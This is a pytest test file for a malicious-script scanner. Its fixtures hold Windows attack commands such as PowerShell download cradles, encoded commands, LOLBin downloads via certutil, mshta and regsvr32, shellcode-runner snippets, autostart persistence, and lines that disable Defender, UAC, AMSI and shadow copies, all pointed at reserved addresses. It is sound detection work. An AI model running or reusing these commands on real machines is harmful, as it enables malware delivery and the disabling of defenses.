"""Scripts and command text: what a script does, judged by where it sits.

Fixtures are text files written at test time (research threats-cs-lures.md §4, R11); they
are never run. Addresses are reserved ones (192.0.2.0/24, example.invalid, 127.0.0.1).
"""

from __future__ import annotations

import base64
import io
import time
import zipfile

import pytest
from conftest import node_named, rules_of

from filewall.analyze.script import analyze_text, is_runnable
from filewall.model import Node

CRADLE_BAT = (
    "@echo off\r\n"
    "rem 报价需求\r\n"
    "powershell -w hidden -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1:9/TEST-ONLY')\"\r\n"
)
SCRIPT_RULES = {
    "script.download_cradle",
    "script.encoded_command",
    "script.lolbin",
    "script.autostart",
    "script.remote_executable",
    "script.hidden_window",
    "script.obfuscated",
    "script.disables_security",
    "script.shellcode_loader",
    "script.commands_in_text",
}


def script_rules(report) -> set[str]:
    return rules_of(report) & SCRIPT_RULES


def evidence(report, rule: str) -> str:
    return next(item for item in report.findings if item.rule == rule).params["evidence"]


def finding(report, rule: str):
    return next(item for item in report.findings if item.rule == rule)


def encoded(command: str) -> str:
    return base64.b64encode(command.encode("utf-16-le")).decode()


# -- the lure, and where it sits ------------------------------------------------------------------


def test_bat_download_cradle_is_malicious(scan):
    report = scan(CRADLE_BAT.encode("gb18030"), "报价需求.bat")
    assert {"script.download_cradle", "script.hidden_window"} <= script_rules(report)
    assert report.verdict.value == "malicious"
    quote = evidence(report, "script.download_cradle")
    assert "DownloadString" in quote and "hxxp://127.0.0.1" in quote and "http://" not in quote
    assert len(quote) <= 102  # a short quote, cut with "…"
    message = finding(report, "script.download_cradle")
    assert "报价需求.bat" in message.message_zh and "不要打开" in message.message_zh
    info = report.tree.info["script"]
    assert info["runs_when_opened"] is True and info["language"] == "batch"


def test_same_commands_in_a_txt_are_softer(scan):
    report = scan(CRADLE_BAT.encode(), "说明.txt")
    assert script_rules(report) == {"script.commands_in_text"}
    assert report.verdict.value == "suspicious"
    soft = finding(report, "script.commands_in_text")
    assert "downloads and runs files from the internet" in soft.message
    assert "从网上下载并运行文件" in soft.message_zh and "说明.txt" in soft.message_zh
    assert "DownloadString" in soft.params["evidence"]


def test_cradle_inside_a_zip_is_found_on_the_member(scan):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("需求/run.cmd", CRADLE_BAT)
    report = scan(buffer.getvalue(), "需求.zip")
    hit = finding(report, "script.download_cradle")
    assert hit.where == "需求.zip/需求/run.cmd"
    assert node_named(report, "run.cmd").info["script"]["runs_when_opened"] is True


def test_hta_content_runs_whatever_its_name(scan):
    hta = (
        '<html><head><hta:application windowstate="minimize"/></head><script language="VBScript">\n'
        'CreateObject("WScript.Shell").Run "mshta http://192.0.2.7/TEST-ONLY.hta", 0\n</script></html>'
    )
    report = scan(hta.encode(), "invoice.html")
    assert report.tree.kind == "hta"
    assert {"script.download_cradle", "script.hidden_window", "script.lolbin"} <= script_rules(report)


def test_web_page_with_commands_is_soft(scan):
    page = (
        "<html><body><p>Run this to fix the display:</p>"
        '<pre>powershell -w hidden -c "iwr http://192.0.2.7/TEST-ONLY.ps1 | iex"</pre></body></html>'
    )
    report = scan(page.encode(), "fix.html")
    assert script_rules(report) == {"script.commands_in_text"}


def test_mmc_console_with_script_runs(scan):
    msc = (
        '<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"><StringTable><Strings>'
        "<String>javascript:eval(\"new ActiveXObject('WScript.Shell').Run('cmd /c certutil -urlcache -f "
        "http://192.0.2.7/TEST-ONLY.exe %TEMP%\\\\a.exe', 0)\")</String></Strings></StringTable></MMC_ConsoleFile>"
    )
    report = scan(msc.encode(), "报表.msc")
    assert {"script.download_cradle", "script.lolbin", "script.hidden_window"} <= script_rules(report)


def test_pages_inside_a_help_file_run():
    assert is_runnable(Node(name="index.html", path="manual.chm/index.html", kind="html"))
    assert not is_runnable(Node(name="index.html", path="site.zip/index.html", kind="html"))
    assert is_runnable(Node(name="a.bat. . ", path="a.bat. . ", kind="text"))  # Windows drops the tail


# -- encoded commands ---------------------------------------------------------------------------------


def test_encoded_powershell_is_decoded_and_read_again(scan):
    hidden = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/stage2.ps1')"
    report = scan(f"powershell.exe -NoP -sta -NonI -W Hidden -Enc {encoded(hidden)}\r\n".encode(), "a.cmd")
    assert {"script.encoded_command", "script.download_cradle", "script.remote_executable"} <= script_rules(
        report
    )
    assert evidence(report, "script.download_cradle").startswith("decoded: IEX")
    assert report.tree.info["script"]["decoded"] == [hidden]


@pytest.mark.parametrize("switch", ["-e", "-ec", "-enc", "-EncodedCommand", "/enc"])
def test_encoded_switch_spellings(switch):
    found = analyze_text(f"powershell {switch} {encoded('Start-Process calc.exe')}")
    assert "script.encoded_command" in found.quotes


def test_dash_e_with_something_else_is_not_an_encoded_command():
    assert not analyze_text("grep -e abcdefghijklmnopqrstuvwxyz file.txt\necho -e hello").quotes


def test_base64_literal_hiding_a_program(pe_bytes):
    blob = base64.b64encode(pe_bytes[:300]).decode()
    found = analyze_text(f"$b = [Convert]::FromBase64String('{blob}')\n[IO.File]::WriteAllBytes('a.exe', $b)")
    assert any("hidden program" in quote for quote in found.quotes["script.encoded_command"])


def test_base64_literal_with_text_is_read_again():
    inner = base64.b64encode(b"Set-MpPreference -DisableRealtimeMonitoring $true").decode()
    found = analyze_text(f"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{inner}')))")
    assert "script.encoded_command" in found.quotes
    assert found.quotes["script.disables_security"][0].startswith("decoded: Set-MpPreference")


def test_python_loader_disguised_as_a_picture(scan):
    # Research [S10]: a Python loader shipped as "qd.jpg" and run by a bundled python.exe.
    loader = "import base64, ctypes  # TEST-ONLY\nexec(base64.b64decode('cHJpbnQoIlRFU1QtT05MWSIp'))\n"
    report = scan(loader.encode(), "qd.jpg")
    assert script_rules(report) == {"script.commands_in_text"}
    assert "编码隐藏的命令" in finding(report, "script.commands_in_text").message_zh
    assert report.tree.info["script"]["language"] == "python"
    assert script_rules(scan(b"import base64\nprint(base64.b64encode(b'hi'))\n", "tool.py")) == set()


@pytest.mark.parametrize(
    "runner",
    [
        "$m = [Kernel32]::VirtualAlloc(0, $sc.Length, 0x3000, 0x40)\n[System.Runtime.InteropServices.Marshal]::Copy($sc, 0, $m, $sc.Length)\n[Kernel32]::CreateThread(0, 0, $m, 0, 0, 0)",
        "p = ctypes.windll.kernel32.VirtualAlloc(0, len(sc), 0x3000, 0x40)\nctypes.windll.kernel32.RtlMoveMemory(p, sc, len(sc))\nctypes.windll.kernel32.CreateThread(0, 0, p, 0, 0, 0)",
        'Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" (...)\nRtlMoveMemory addr, buf(0), 1\nEnumSystemLocalesA addr, 0',
    ],
    ids=["powershell", "python", "vba"],
)
def test_shellcode_runner(scan, runner):
    report = scan(runner.encode(), "run.ps1")
    assert "script.shellcode_loader" in script_rules(report)
    assert report.verdict.value == "malicious"


def test_memory_calls_alone_are_not_a_loader():
    assert (
        "script.shellcode_loader"
        not in analyze_text("VirtualAlloc is documented on MSDN; so is CreateThread.").quotes
    )


# -- what scripts do ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "command, rules",
    [
        ("certutil -urlcache -split -f http://192.0.2.7/a.exe %TEMP%\\a.exe", {"download_cradle", "lolbin"}),
        (
            "bitsadmin /transfer job /download /priority high http://192.0.2.7/a.exe C:\\a.exe",
            {"download_cradle", "lolbin"},
        ),
        ("mshta http://192.0.2.7/TEST-ONLY.hta", {"download_cradle", "lolbin"}),
        ('mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc"":close")', {"lolbin"}),
        ("msiexec /q /i http://192.0.2.7/setup.msi", {"download_cradle", "lolbin"}),
        ("regsvr32 /s /n /u /i:http://192.0.2.7/file.sct scrobj.dll", {"download_cradle", "lolbin"}),
        ('rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication "', {"lolbin"}),
        ('wmic process call create "cmd /c echo TEST-ONLY"', {"lolbin"}),
        ('forfiles /p C:\\Windows /m notepad.exe /c "cmd /c echo TEST-ONLY"', {"lolbin"}),
        ("cmstp.exe /s /ns C:\\Users\\Public\\x.inf", {"lolbin"}),
        ("powershell -ExecutionPolicy Bypass -File a.ps1", {"lolbin"}),
        ("curl -o %TEMP%\\a.exe http://192.0.2.7/a.exe && %TEMP%\\a.exe", {"download_cradle"}),
    ],
)
def test_windows_tools_and_download_commands(command, rules):
    found = analyze_text(command)
    assert {f"script.{rule}" for rule in rules} <= set(found.quotes), found.quotes


def test_vbscript_downloader(scan):
    vbs = (
        'Set x = CreateObject("MSXML2.XMLHTTP")\n'
        'x.Open "GET", "http://192.0.2.7/TEST-ONLY.exe", False\nx.Send\n'
        'Set s = CreateObject("ADODB.Stream")\ns.Open\ns.Type = 1\ns.Write x.responseBody\n'
        's.SaveToFile "C:\\Users\\Public\\a.exe", 2\n'
        'CreateObject("WScript.Shell").Run "C:\\Users\\Public\\a.exe", 0, False\n'
    )
    report = scan(vbs.encode(), "订单.vbs")
    assert {"script.download_cradle", "script.remote_executable", "script.hidden_window"} <= script_rules(
        report
    )
    assert report.tree.info["script"]["language"] == "vbscript"


@pytest.mark.parametrize(
    "text",
    [
        'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v Management /t REG_SZ /d "C:\\ProgramData\\Shine.exe" /f',
        "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce' -Name u -Value 'C:\\x.exe'",
        'WshShell.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd", "C:\\x.exe", "REG_SZ"',
        'copy /y a.exe "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.exe"',
        'schtasks /create /sc onlogon /tn "MM" /tr "C:\\Users\\Public\\Documents\\MM\\svchos1.exe"',
        "$p = [Environment]::GetFolderPath('Startup')",
        'sc create upd binPath= "C:\\ProgramData\\u.exe" start= auto',
    ],
    ids=[
        "reg-add-run",
        "new-itemproperty",
        "regwrite",
        "startup-folder",
        "schtasks",
        "getfolderpath",
        "service",
    ],
)
def test_autostart(text):
    assert "script.autostart" in analyze_text(text).quotes


@pytest.mark.parametrize(
    "text",
    [
        "Set-MpPreference -DisableRealtimeMonitoring $true",
        "Add-MpPreference -ExclusionPath 'C:\\ProgramData'",
        "netsh advfirewall set allprofiles state off",
        "reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /t REG_DWORD /d 0 /f",
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')",
        "vssadmin delete shadows /all /quiet",
    ],
    ids=["defender", "exclusion", "firewall", "uac", "amsi", "shadow-copies"],
)
def test_disables_security(text):
    assert "script.disables_security" in analyze_text(text).quotes


@pytest.mark.parametrize(
    "text",
    [
        "net use Z: \\\\192.0.2.5\\share\nstart \\\\192.0.2.5\\share\\update.exe",
        "start \\\\files.example.invalid@SSL\\DavWWWRoot\\invoice.pdf.lnk",
        "explorer file://192.0.2.5/share/setup.msi",
    ],
    ids=["unc", "webdav", "file-url"],
)
def test_remote_programs(text):
    assert "script.remote_executable" in analyze_text(text).quotes


def test_local_and_web_links_are_not_remote_programs():
    text = (
        "see C:\\\\Windows\\\\System32\\\\alg.exe (escaped in JSON), https://cdn.example.com/lib/app.js,\n"
        "https://stackoverflow.com/search?q=setup.exe and https://shop.example.com/item/1.html"
    )
    assert "script.remote_executable" not in analyze_text(text).quotes


@pytest.mark.parametrize(
    "text",
    [
        "powershell -WindowStyle Hidden -File a.ps1",
        "powershell.exe -w 1 -c calc",
        "Start-Process a.exe -WindowStyle Hidden",
        'objShell.Run "cmd /c a.bat", 0, False',
        "conhost.exe --headless cmd /c a.bat",
    ],
)
def test_hidden_window(text):
    assert "script.hidden_window" in analyze_text(text).quotes


# -- obfuscation ---------------------------------------------------------------------------------------


def test_caret_obfuscation_is_seen_through(scan):
    bat = "@echo off\r\np^o^w^e^r^s^h^e^l^l -c \"i^e^x (n^e^w-o^b^j^e^c^t n^e^t.w^e^b^c^l^i^e^n^t).d^o^w^n^l^o^a^d^s^t^r^i^n^g('http://192.0.2.7/x')\"\r\n"
    report = scan(bat.encode(), "a.bat")
    assert {"script.obfuscated", "script.download_cradle"} <= script_rules(report)


@pytest.mark.parametrize(
    "text",
    [
        "$c = 'Do'+'wn'+'lo'+'ad'+'St'+'ri'+'ng'+'(h'+'tt'+'p:'+'//'",
        "x = Chr(87) & Chr(83) & Chr(99) & Chr(114) & Chr(105) & Chr(112) & Chr(116)",
        "$s = [char]73+[char]69+[char]88+[char]32+[char]40+[char]78+[char]101+[char]119+[char]45",
        "set a=%COMSPEC:~-16,1%%COMSPEC:~-1%%COMSPEC:~-13,1%%COMSPEC:~4,1%%COMSPEC:~-12,1%",
        "eval(String.fromCharCode(97,108,101,114,116,40,49,41,59,32,47,47))",
        "$p = '" + "QUJD" * 400 + "'",
        "I`E`X (N`e`w-O`b`j`e`c`t Net.WebClient)",
    ],
    ids=["fragments", "chr-chain", "char-cast", "env-slices", "fromcharcode", "base64-blob", "backticks"],
)
def test_obfuscation(text):
    assert "script.obfuscated" in analyze_text(text).quotes


def test_normal_escapes_are_not_obfuscation():
    bat = "@echo off\necho Tom ^& Jerry ^> out.txt\necho 100%% done\nset /p name=Name: \n"
    js = "var html = '<div class=\"' + cls + '\">' + title + '</div>';\nel.innerHTML = html;"
    ps = 'Write-Host "Line1`nLine2`tTabbed"'
    markdown = (
        "Keep all `napi_value`s and `Buffer`s alive; pass `bigint`s by value. Here `MUL a^j` is a power."
    )
    for text in (bat, js, ps, markdown):
        assert "script.obfuscated" not in analyze_text(text).quotes, text


def test_shell_and_python_code_are_not_cradles_or_hidden_windows():
    shell = "wget -N http://www.unicode.org/Public/UCD/latest/ucd/UnicodeData.txt &&\n\t( cd uniset && make )"
    python = "return max(self.run_every.total_seconds(), 0)"
    assert not analyze_text(shell).quotes.get("script.download_cradle")
    assert not analyze_text(python).quotes.get("script.hidden_window")


def test_batch_file_hidden_behind_a_false_utf16_marker(scan):
    # Notepad shows Chinese-looking garbage; cmd.exe runs the commands.
    report = scan(b"\xff\xfe&cls\r\n" + CRADLE_BAT.encode(), "说明.bat")
    assert {"script.obfuscated", "script.download_cradle"} <= script_rules(report)
    genuine = ("\ufeff" + "@echo off\r\necho hello\r\n").encode("utf-16-le")
    assert script_rules(scan(genuine, "hello.bat")) == set()


# -- nothing to see --------------------------------------------------------------------------------------


def test_ordinary_batch_file_has_no_behaviour_findings(scan):
    bat = "@echo off\r\ncd /d %~dp0\r\npython -m pip install -r requirements.txt\r\necho done\r\npause\r\n"
    report = scan(bat.encode(), "build.bat")
    assert script_rules(report) == set()
    assert report.tree.info["script"]["language"] == "batch"


def test_ordinary_text_and_web_page_are_clean(scan):
    note = "亲，我们要定制200个杯子，logo 在附件图片里，周五前发到上海。谢谢！\nhttps://shop.example.com/item/123"
    assert script_rules(scan(note.encode(), "需求.txt")) == set()
    page = (
        '<html><head><script src="https://cdn.example.com/jquery.min.js"></script></head><body>'
        '<img src="data:image/png;base64,' + "iVBORw0KGgo" * 300 + '">'
        "<script>document.getElementById('a').onclick = function () { window.location = '/next'; };</script>"
        "</body></html>"
    )
    report = scan(page.encode(), "page.html")
    assert script_rules(report) == set()


def test_ordinary_powershell_admin_script(scan):
    ps = "$files = Get-ChildItem -Path C:\\Reports -Filter *.csv\nforeach ($f in $files) { Write-Host $f.Name }\n"
    report = scan(ps.encode("utf-16"), "list.ps1")  # UTF-16 with BOM, as PowerShell saves
    assert script_rules(report) == set()
    assert report.tree.info["script"]["language"] == "powershell"


def test_utf16_powershell_script_is_read(scan):
    report = scan(("\ufeff" + "Add-MpPreference -ExclusionPath C:\\").encode("utf-16-le"), "a.ps1")
    assert "script.disables_security" in script_rules(report)


# -- bounds -------------------------------------------------------------------------------------------------


def test_only_head_and_tail_are_read(scan):
    filler = ("rem " + "x" * 70 + "\n") * 40_000  # ~3 MB of harmless lines
    middle = filler[: len(filler) // 2] + CRADLE_BAT + filler[len(filler) // 2 :]
    assert "script.download_cradle" not in script_rules(scan(middle.encode(), "long.bat"))
    tail = filler + CRADLE_BAT
    assert "script.download_cradle" in script_rules(scan(tail.encode(), "long.bat"))


@pytest.mark.parametrize(
    "hostile",
    [
        "a" * 1_000_000,
        "-e " * 300_000,
        ("A" * 999 + " ") * 1000,
        "\\\\" * 400_000,
        "^a" * 400_000,
        "'a'+" * 200_000,
        "http://x/" + "a." * 400_000,
        "Chr(65) & " * 90_000,
        "%a:~1,1%" * 100_000,
    ],
    ids=["letters", "dash-e", "base64-runs", "backslashes", "carets", "fragments", "url-dots", "chr", "env"],
)
def test_hostile_text_is_analysed_quickly(hostile):
    started = time.process_time()
    analyze_text(hostile)
    analyze_text(hostile, web=True)
    assert time.process_time() - started < 3.0


def test_tail_of_a_big_utf16_script_is_read(scan):
    filler = "rem filler line\r\n" * 80_000  # ~2.7 MB in UTF-16
    report = scan(
        ("\ufeff" + filler + "Add-MpPreference -ExclusionPath C:\\\r\n").encode("utf-16-le"), "big.ps1"
    )
    assert "script.disables_security" in script_rules(report)
